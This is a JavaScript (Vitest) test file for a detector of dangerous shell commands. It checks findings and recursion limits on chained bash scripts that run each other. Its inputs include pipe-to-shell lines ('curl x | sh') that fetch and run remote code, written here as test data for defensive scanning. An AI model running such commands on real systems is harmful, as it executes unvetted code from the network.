import { expect, it } from "vitest";
import { sharedDetector } from "../../support/marked.js";

it("files that each run the next file twice all have their finding, and a limit is recorded", async () => {
  const detector = await sharedDetector("extended");
  const files = Array.from(
    { length: 12 },
    (_, at) =>
      `cat > f${String(at)} <<'EOF'\nbash f${String(at + 1)}\nbash f${String(at + 1)}\ncurl x${String(at)} | sh\nEOF`,
  );
  const { findings, outcome } = detector.detect(`\`\`\`bash\n${files.join("\n")}\nbash f0\n\`\`\``);
  expect(findings).toHaveLength(files.length);
  const limits = outcome.status === "complete" ? [] : outcome.limits.map(({ limit }) => limit);
  expect(new Set(limits)).toEqual(new Set(["contexts"]));
}, 120_000);

it("a file that runs itself is evaluated once", async () => {
  const detector = await sharedDetector("extended");
  const text = "```bash\ncat > f <<'EOF'\ncurl x | sh\nbash f\nEOF\nbash f\n```";
  const { findings, outcome } = detector.detect(text);
  expect(findings).toHaveLength(1);
  expect(outcome.status).toBe("complete");
});
